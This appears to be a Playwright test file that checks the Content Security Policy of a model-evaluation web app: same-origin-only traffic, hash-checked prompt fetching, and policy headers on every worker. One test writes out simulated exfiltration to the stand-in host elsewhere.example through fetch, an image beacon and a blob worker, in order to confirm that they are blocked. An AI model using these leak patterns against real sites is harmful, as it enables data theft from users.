import { PROMPT_FILES, REFERENCE_PROMPTS_URL } from '../../src/core/protocol/reference';
import { answer, choose, evidenceDone, expect, storeModel, test } from './site';

/** On the host of the prompts, but another file. */
const OTHER_FILE = new URL('../../../../other/repository/main/file.txt', REFERENCE_PROMPTS_URL).href;

test('page and workers talk to their own origin only, from opening to the last verdict', async ({
  context,
  page,
  site,
  files,
}) => {
  const asked: string[] = [];
  context.on('request', (request) => asked.push(request.url()));
  const complaints: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy|Refused/i.test(message.text())) complaints.push(message.text());
  });
  await page.goto(site);
  await choose(page, 'before', files.before, files.after);
  await page.getByLabel('Instruction').fill('Add a sign.');
  await evidenceDone(page);
  await storeModel(page, files);
  await page.getByRole('button', { name: 'Evaluate with the model' }).click();
  await expect(answer(page, 'lowLevel', 'model')).toHaveAttribute('data-answer', /./);

  const own = new URL(site).origin;
  const elsewhere = asked.filter((url) => {
    const { protocol, origin } = new URL(url);
    return protocol !== 'blob:' && protocol !== 'data:' && origin !== own;
  });
  expect(elsewhere).toEqual([]);
  // the recording saw workers too: the engine's binary is fetched by the judge worker
  expect(asked.some((url) => url.endsWith('.wasm'))).toBe(true);
  expect(asked.some((url) => url.includes('pixels.worker'))).toBe(true);
  expect(complaints).toEqual([]);
});

test('the policy stops a page or worker that would send something out', async ({ page, site }) => {
  const reached: string[] = [];
  await page.route('http://elsewhere.example/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: 'x', headers: { 'Access-Control-Allow-Origin': '*' } });
  });
  await page.goto(site);
  const outcome = await page.evaluate(async () => {
    const leak = () =>
      fetch('http://elsewhere.example/leak', { method: 'POST', body: 'secret', mode: 'no-cors' }).then(
        () => 'sent',
        () => 'stopped',
      );
    const image = () =>
      new Promise<string>((resolve) => {
        const picture = new Image();
        picture.onload = () => resolve('sent');
        picture.onerror = () => resolve('stopped');
        picture.src = 'http://elsewhere.example/leak.png';
      });
    const worker = () =>
      new Promise<string>((resolve) => {
        const code = `fetch('http://elsewhere.example/leak',{mode:'no-cors'}).then(()=>postMessage('sent'),()=>postMessage('stopped'))`;
        const url = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
        new Worker(url).onmessage = (event) => resolve(String(event.data));
      });
    return [await leak(), await image(), await worker()];
  });
  expect(outcome).toEqual(['stopped', 'stopped', 'stopped']);
  expect(reached).toEqual([]);
});

test('prompts are asked for only when a user wants them, and only where they are', async ({
  context,
  page,
  site,
}) => {
  const asked: string[] = [];
  await context.route('https://raw.githubusercontent.com/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ body: 'not the right text', headers: { 'Access-Control-Allow-Origin': '*' } });
  });
  await page.goto(site);
  await page.getByText('What the model is asked').click();
  const button = page.getByRole('button', { name: 'Fetch StableI2I’s prompts' });
  await expect(button).toBeEnabled();
  expect(asked).toEqual([]);
  await button.click();
  // what came back is not what the pinned hashes say, and is not taken
  await expect(page.locator('.prompts').getByRole('alert')).toHaveAttribute('data-code', 'prompts/changed');
  expect(asked).toEqual(PROMPT_FILES.map((file) => `${REFERENCE_PROMPTS_URL}${file}.txt`));
  await expect(page.getByLabel('Prompts', { exact: true }).locator('option')).toHaveText(['Built in']);
  const elsewhere = await page.evaluate(
    (url) =>
      fetch(url).then(
        () => 'sent',
        () => 'stopped',
      ),
    OTHER_FILE,
  );
  expect(elsewhere).toBe('stopped');
});

test('every script that the page serves carries the policy, so its workers are bound too', async ({
  page,
  site,
}) => {
  const policies: Record<string, string> = {};
  page.on('response', (response) => {
    policies[response.url()] = response.headers()['content-security-policy'] ?? '';
  });
  await page.goto(site);
  await expect(page.locator('h1')).toBeVisible();
  await expect.poll(() => Object.keys(policies).some((url) => url.includes('judge.worker'))).toBe(true);
  for (const policy of Object.values(policies)) expect(policy).toContain("connect-src 'self'");
  const meta = page.locator('meta[http-equiv="Content-Security-Policy"]');
  await expect(meta).toHaveAttribute('content', /default-src 'none'/);
  await expect(meta).not.toHaveAttribute('content', /unsafe-inline|'unsafe-eval'|\*/);
});
